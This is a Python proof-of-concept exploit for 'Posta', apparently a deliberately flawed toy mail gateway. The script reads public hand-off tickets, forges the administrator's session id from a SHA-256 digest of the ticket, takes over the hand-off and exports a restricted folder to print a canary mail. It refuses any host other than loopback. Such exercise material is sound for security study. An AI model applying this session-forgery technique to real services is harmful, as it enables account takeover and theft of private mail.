#!/usr/bin/env python3
"""Proof of concept for the built-in flaw of Posta, a toy mail gateway.

Posta lists the tickets of waiting hand-offs on a public board, and accepts a
session id that anybody can compute from such a ticket. This program takes over
the administrator's hand-off on a local Posta and prints the canary mail.

Exit status: 0 canary printed, 1 no canary, 2 refused (host or server).
"""

import argparse
import hashlib
import http.client
import json
import sys
from urllib.parse import quote, urlencode

LOOPBACK = "127.0.0.1"
ALLOWED_HOSTS = (LOOPBACK, "localhost")
SERVER_FAMILY = "posta-toy/"
SEALED_FOLDER = "restricted"
TIMEOUT_SECONDS = 10

EXIT_OK = 0
EXIT_FAILED = 1
EXIT_REFUSED = 2


class Refused(Exception):
    """The target is not a Posta on this computer."""


class ProbeFailed(Exception):
    """The target is a Posta, but a step did not work."""


class PostaClient:
    """Speaks to one Posta; checks the banner of every answer."""

    def __init__(self, port):
        self.port = port
        self.token = None

    def call(self, verb, path, payload=None):
        """Send one request and return (status, text)."""
        headers = {"Accept": "*/*"}
        body = None
        if self.token:
            headers["Authorization"] = "Bearer " + self.token
        if payload is not None:
            headers["Content-Type"] = "application/json"
            body = json.dumps(payload)
        connection = http.client.HTTPConnection(LOOPBACK, self.port, timeout=TIMEOUT_SECONDS)
        try:
            connection.request(verb, path, body=body, headers=headers)
            response = connection.getresponse()
            if not (response.getheader("Server") or "").startswith(SERVER_FAMILY):
                raise Refused("the server does not carry Posta's banner")
            return response.status, response.read().decode("utf-8", "replace")
        except http.client.HTTPException as problem:
            raise Refused("the server does not answer like Posta: %r" % problem) from problem
        finally:
            connection.close()

    def call_json(self, verb, path, payload=None):
        """Like call, but insist on success and on a JSON object."""
        status, text = self.call(verb, path, payload)
        if status >= 300:
            raise ProbeFailed("%s %s answered %d: %s" % (verb, path, status, text[:200]))
        try:
            answer = json.loads(text)
        except ValueError as problem:
            raise ProbeFailed("%s %s did not answer JSON" % (verb, path)) from problem
        if not isinstance(answer, dict):
            raise ProbeFailed("%s %s answered something unexpected" % (verb, path))
        return answer


def ensure_posta(client):
    """Refuse early: nothing else is sent to a server that is no Posta."""
    status, text = client.call("GET", "/status")
    if status != 200 or '"posta"' not in text:
        raise Refused("the status page is not Posta's")


def pick_admin_ticket(client):
    """The board is public, and tells the role that belongs to each ticket."""
    for entry in client.call_json("GET", "/board").get("waiting", []):
        if entry.get("role") == "administrator":
            return entry["ticket"]
    raise ProbeFailed("no administrator's hand-off is waiting")


def forge_session(ticket):
    """The flaw: the session id is a word, a separator and a digest of the ticket."""
    return "session-" + hashlib.sha256(ticket.encode("ascii")).hexdigest()


def take_over(client, ticket):
    """Finish the hand-off in the place of the second device; keep its pass."""
    claim = {"ticket": ticket, "session": forge_session(ticket)}
    answer = client.call_json("POST", "/handoff", claim)
    if not answer.get("pass"):
        raise ProbeFailed("the hand-off gave no pass")
    client.token = answer["pass"]


def download_folder(client, folder):
    """Let Posta prepare the folder as mbox, then fetch it."""
    job = client.call_json("POST", "/export?" + urlencode({"folder": folder})).get("job")
    if not job:
        raise ProbeFailed("the export has no job name")
    status, text = client.call("GET", "/export/" + quote(str(job), safe=""))
    if status != 200:
        raise ProbeFailed("the export answered %d" % status)
    return text


def first_mail_body(mbox):
    """Text of the first mail: what follows its header block."""
    head, gap, body = mbox.partition("\n\n")
    if not head.startswith("From ") or not gap or not body.strip():
        raise ProbeFailed("the export holds no mail")
    return body.rstrip("\n")


def read_canary(port):
    """All steps in order."""
    client = PostaClient(port)
    ensure_posta(client)
    take_over(client, pick_admin_ticket(client))
    try:
        return first_mail_body(download_folder(client, SEALED_FOLDER))
    finally:
        client.call("POST", "/close")


def parse_arguments(argv):
    parser = argparse.ArgumentParser(description="Read the canary mail of a local Posta.")
    parser.add_argument("--host", default=LOOPBACK, help="127.0.0.1 or localhost, nothing else")
    parser.add_argument("--port", type=int, required=True)
    arguments = parser.parse_args(argv)
    if not 1 <= arguments.port <= 65535:
        parser.error("--port: want 1 to 65535")
    return arguments


def main(argv=None):
    arguments = parse_arguments(argv)
    try:
        if arguments.host not in ALLOWED_HOSTS:
            raise Refused("only 127.0.0.1 or localhost, not %s" % arguments.host)
        print(read_canary(arguments.port))
        return EXIT_OK
    except Refused as reason:
        print("refused: %s" % reason, file=sys.stderr)
        return EXIT_REFUSED
    except (ProbeFailed, OSError) as reason:
        print("failed: %s" % reason, file=sys.stderr)
        return EXIT_FAILED


if __name__ == "__main__":
    sys.exit(main())
